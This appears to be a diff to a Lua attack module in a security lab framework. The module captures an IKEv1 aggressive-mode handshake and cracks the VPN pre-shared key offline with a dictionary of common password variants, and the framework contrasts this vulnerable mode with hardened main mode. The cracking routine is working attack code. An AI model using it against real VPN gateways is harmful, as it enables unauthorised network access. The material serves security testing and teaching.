@@ -6,6 +6,7 @@ attack = {
   position = "passive",
   needs = "to see one aggressive mode handshake",
   source = "RFC 2409, 5.4; ike-scan's psk-crack; catalogue A06",
+  unseen = "who only listens sends nothing; a monitor can say no more than that version 1 of IKE is spoken here",
   shows = {
     vulnerable = "aggressive mode with a word and a year as shared secret: found after some hundred tries, offline",
     hardened = "main mode: the proof is encrypted with keys that need the Diffie-Hellman secret; a listener has nothing to try",
@@ -13,32 +14,17 @@ attack = {
   scenarios = { vulnerable = "ikev1-aggressive-crack", hardened = { "ikev1-aggressive-crack-main" } },
 }
 
+local secrets = library "secrets"
+local goal = "find the shared secret"
+
 -- Parameters: dictionary = "common"; each = 200 (tries in one go), pause = "10ms" (between them).
-local dictionary, each, pause
+local plan, search
 local seen = {}          -- by the initiator's cookie: what the two messages say
-local trial, tried = nil, 0
+local trial
+local variants = secrets.variants
 
 function on_start(params)
-  dictionary = words(params.dictionary or "common")
-  each = tonumber(params.each or "200")
-  pause = params.pause or "10ms"
-end
-
-local function find(message, type)
-  for _, payload in ipairs(message.payloads) do
-    if payload.type == type then return payload end
-  end
-end
-
--- A word as people vary it.
-local function variants(word)
-  local capital = word:sub(1, 1):upper() .. word:sub(2)
-  local list = { word, capital, word .. "1", capital .. "1", word .. "123", capital .. "123", word .. "!", capital .. "!" }
-  for year = 2020, 2026 do
-    list[#list + 1] = word .. year
-    list[#list + 1] = capital .. year
-  end
-  return list
+  plan = secrets.plan(params)
 end
 
 local function first_message(message)
@@ -63,10 +49,21 @@ local function second_message(message, known)
   learn("identity", "the responder is " .. id:sub(5), "IDir goes in the clear in aggressive mode", id:sub(5))
   learn("HASH_R", "made from the shared secret: each word can be tried against it", "message 2 of aggressive mode, in the clear", hash.body)
   known.prf, known.spi_r, known.nr, known.g_xr = chosen.suite.prf, message.spi_r, find(message, "NONCE").body, find(message, "KE").body
-  known.id, known.hash, known.at = id, hash.body, 1
+  known.id, known.hash = id, hash.body
   learn("psk-crack", "the same for psk-crack(1): " .. psk_crack_line(known), "all of it was in the clear")
   trial = known
-  timer.after("1ms", "try")
+  search = secrets.search(plan, {
+    vary = function(word) return variants(word) end,
+    fits = function(guess)
+      trial.skeyid = ikev1.skeyid(trial.prf, { psk = guess, ni = trial.ni, nr = trial.nr })
+      return ikev1.hash(trial.prf, "responder", trial) == trial.hash
+    end,
+    found = function(guess, tried)
+      learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on HASH_R", guess)
+      achieved(goal, true, "found at try " .. tried)
+    end,
+    none = function(tried) achieved(goal, false, "not one of " .. tried .. " secrets of the dictionary") end,
+  })
 end
 
 function on_packet(p)
@@ -81,23 +78,8 @@ function on_packet(p)
   end
 end
 
-function on_timer()
-  local last = math.min(trial.at + math.max(1, each // 22) - 1, #dictionary)
-  for i = trial.at, last do
-    for _, guess in ipairs(variants(dictionary[i])) do
-      tried = tried + 1
-      trial.skeyid = ikev1.skeyid(trial.prf, { psk = guess, ni = trial.ni, nr = trial.nr })
-      if ikev1.hash(trial.prf, "responder", trial) == trial.hash then
-        learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on HASH_R", guess)
-        return achieved("find the shared secret", true, "found at try " .. tried)
-      end
-    end
-  end
-  trial.at = last + 1
-  if trial.at <= #dictionary then return timer.after(pause, "try") end
-  achieved("find the shared secret", false, "not one of " .. tried .. " secrets of the dictionary")
-end
+function on_timer() search() end
 
 function on_finish()
-  if not trial then achieved("find the shared secret", false, "no aggressive mode came by: HASH_R was never in the clear") end
+  if not trial then achieved(goal, false, "no aggressive mode came by: HASH_R was never in the clear") end
 end
